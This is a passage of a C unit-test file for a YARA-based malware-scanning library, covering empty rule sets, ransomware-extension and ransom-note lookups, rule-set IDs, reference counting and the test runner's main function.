    CHECK(a->yara == NULL && a->yara_count == 0 && a->nransom_ext == 0 && a->nransom_notes == 0);
    CHECK(hn_ruleset_ransom_ext(a, "x.lockbit") == NULL && !hn_ruleset_ransom_note(a, "x"));
    CHECK(strcmp(a->id, b->id) == 0 && strcmp(a->id, id0) != 0 && strlen(a->id) == 64);
    CHECK(hn_ruleset_rule_by_name(a, "EICAR_Test_File") == NULL);
    hn_ruleset_free(a);
    hn_ruleset_free(b);
    hn_ruleset_free(NULL);
}

static void test_refcount(void)
{
    CHECK_OK(hn_yara_init());
    CHECK_OK(hn_yara_init());
    hn_yara_fini();
    hn_yara_fini();
    /* a rule set holds its own reference: usable without an outer init */
    hn_ruleset *rs = NULL;
    CHECK_OK(load(&rs, src_rules, NULL, 0, NULL, 0));
    matches m;
    scan(&m, rs, "nothing to see", 14);
    CHECK(m.n == 0);
    hn_ruleset_free(rs);
}

int main(void)
{
    char base[PATH_MAX];
    find_rules();
    fx_scratch_new(base, "rules");
    REQUIRE(hn_yara_init() == 0);
    test_pack_samples();
    test_ransom_names();
    test_errors(base);
    test_duplicates(base);
    test_ids(base);
    hn_yara_fini();
    test_refcount();
    fx_scratch_done(base);
    return test_summary("test_rules");
}
